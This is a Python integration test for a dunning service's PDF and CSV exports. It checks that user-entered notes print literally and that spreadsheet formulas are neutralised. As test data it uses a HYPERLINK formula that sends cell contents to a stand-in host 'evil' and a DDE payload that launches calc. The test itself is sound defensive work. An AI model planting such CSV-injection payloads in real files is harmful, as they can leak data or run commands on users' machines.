"""User text in dunning's files (real PostgreSQL): the evidence PDF prints notes literally (no
live link, no image fetched, an unbalanced tag does not break it), and CSVs (the evidence
ZIP's, the KPI exports) cannot run a formula while numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest

from services.dunning.tests.integration.support import at, case_of, feed, invoice
from tests.support.pdf import HOSTILE, inert_text

pytestmark = pytest.mark.integration

FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


async def test_evidence_prints_notes_literally_and_csvs_are_inert(api, pool) -> None:  # type: ignore[no-untyped-def]
    await feed(pool, invoice("3101", date(2026, 1, 31)))
    case_id = (await case_of(pool, "3101"))["case_id"]
    await api.post("/sweeps", json={"as_of": at("2026-02-08 10:00").isoformat()})
    note = await api.post(f"/cases/{case_id}/notes", json={"body": HOSTILE + " <b>unclosed"})
    assert note.status_code == 201
    outcome = {"kind": "call", "reason_code": "hardship", "staff_id": "hk-1", "note": FORMULA}
    assert (await api.post(f"/cases/{case_id}/outcomes", json=outcome)).status_code == 201

    pdf = await api.get(f"/cases/{case_id}/evidence.pdf")
    assert pdf.status_code == 200, pdf.text
    text = "".join(inert_text(pdf.content).split())  # table cells wrap lines
    for typed in (HOSTILE, "<b>unclosed", FORMULA):
        assert "".join(typed.split()) in text

    zipped = await api.get(f"/cases/{case_id}/evidence.zip")
    archive = zipfile.ZipFile(io.BytesIO(zipped.content))
    log = next(n for n in archive.namelist() if n.endswith("-催缴联系记录.csv"))
    visits = list(csv.DictReader(io.StringIO(archive.read(log).decode("utf-8-sig"))))
    assert {v["记录内容"] for v in visits} == {"'" + FORMULA, HOSTILE + " <b>unclosed"}
    inert_text(archive.read("证据材料.pdf"))
    bills = list(
        csv.DictReader(io.StringIO(archive.read("证据1-物业服务费账单.csv").decode("utf-8-sig")))
    )
    assert bills[0]["账单金额"] == "275.80元"  # not "'275.80元"

    await pool.execute("UPDATE escalations SET staff_id = $1", "-2+3+cmd|' /C calc'!A0")
    period = {"start": "2026-02-01", "end": "2026-03-01", "by": "staff"}
    for route in ("/kpis.csv", "/reports/kpis.csv"):
        exported = await api.get(route, params=period)
        row = next(csv.DictReader(io.StringIO(exported.text)))
        assert row["staff"] == "'-2+3+cmd|' /C calc'!A0"
        assert row["chased"] == "1"
